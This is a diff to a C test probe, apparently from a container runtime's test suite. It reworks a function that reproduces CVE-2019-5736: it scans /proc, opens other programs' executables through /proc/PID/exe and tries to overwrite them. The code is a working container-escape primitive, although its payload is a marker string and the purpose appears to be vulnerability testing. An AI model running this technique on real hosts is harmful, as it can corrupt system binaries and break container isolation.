@@ -16,7 +16,6 @@
 #include <sys/sysmacros.h>
 #include <sys/vfs.h>
 #include <sys/wait.h>
-#include <time.h>
 #include <unistd.h>
 
 static void result(int status)
@@ -136,30 +135,45 @@ static void call(int count, char **words)
 }
 
 /*
- * CVE-2019-5736: for some seconds, whenever a process other than ours shows up, keep its program open through /proc/PID/exe and try to write to it once it
- * is no longer running. Prints how many programs were caught and how many of them took the write.
+ * CVE-2019-5736: until /tmp/stop is there, whenever a process of another program shows up, keep that program open through /proc/PID/exe and write to it as
+ * soon as it no longer runs. Prints how many were seen, how many could be opened, and how many took the write.
  */
-static void overwrite_programs(int seconds)
+static void overwrite_programs(void)
 {
-	int caught = 0, written = 0;
-	pid_t last = getpid();
-	struct stat own, other;
+	int seen = 0, caught = 0, written = 0;
+	static char known[65536];
+	struct stat own, tools, other;
 	stat("/proc/self/exe", &own);
-	for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
-		for (pid_t pid = last + 1; pid < last + 64; pid++) {
+	stat("/bin/tug-demo", &tools);
+	DIR *folder = opendir("/proc");
+	while (folder && access("/tmp/stop", F_OK) != 0) {
+		rewinddir(folder);
+		for (struct dirent *entry; (entry = readdir(folder));) {
 			char path[64];
+			int pid = atoi(entry->d_name);
+			if (pid <= 0 || pid >= (int)sizeof known || pid == getpid() || known[pid])
+				continue;
 			snprintf(path, sizeof path, "/proc/%d/exe", pid);
 			int program = open(path, O_PATH | O_CLOEXEC);
-			if (program < 0)
+			if (program < 0) {
+				seen += known[pid] != 1;
 				continue;
-			last = pid;
+			}
 			if (fstat(program, &other) < 0 || (other.st_dev == own.st_dev && other.st_ino == own.st_ino)) {
 				close(program);
 				continue;
 			}
+			if (other.st_dev == tools.st_dev && other.st_ino == tools.st_ino) { /* of the container itself */
+				known[pid] = 1;
+				seen++;
+				close(program);
+				continue;
+			}
+			known[pid] = 1;
+			seen++;
 			caught++;
 			snprintf(path, sizeof path, "/proc/self/fd/%d", program);
-			for (int i = 0; i < 2000; i++) {
+			for (int i = 0; i < 200; i++) {
 				int fd = open(path, O_WRONLY | O_CLOEXEC);
 				if (fd >= 0) {
 					written += write(fd, "overwritten", 11) == 11;
@@ -168,12 +182,12 @@ static void overwrite_programs(int seconds)
 				}
 				if (errno != ETXTBSY)
 					break;
-				usleep(200);
+				usleep(500);
 			}
 			close(program);
 		}
 	}
-	printf("caught %d written %d\n", caught, written);
+	printf("seen %d caught %d written %d\n", seen, caught, written);
 }
 
 /* Numbers in /proc that name processes. */
@@ -208,7 +222,7 @@ static int probe(int count, char **words)
 	else if (strcmp(verb, "call") == 0)
 		call(count - 1, words + 1);
 	else if (strcmp(verb, "overwrite") == 0)
-		overwrite_programs(atoi(first));
+		overwrite_programs();
 	else if (strcmp(verb, "processes") == 0)
 		list_processes();
 	else if (strcmp(verb, "pause") == 0)
